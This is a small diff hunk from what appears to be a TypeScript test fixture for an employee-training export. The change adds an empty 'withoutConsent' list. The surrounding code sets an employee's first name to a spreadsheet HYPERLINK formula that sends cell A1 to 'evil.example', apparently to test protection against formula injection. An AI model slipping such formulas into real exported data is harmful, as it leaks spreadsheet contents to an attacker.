@@ -14,6 +14,7 @@ const HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1,"Details")';
 
 const training: TrainingEmployees = {
   modules: [{ slug: 'reise', name: 'Reiseapotheke' }],
+  withoutConsent: [],
   employees: [
     {
       firstName: HYPERLINK,
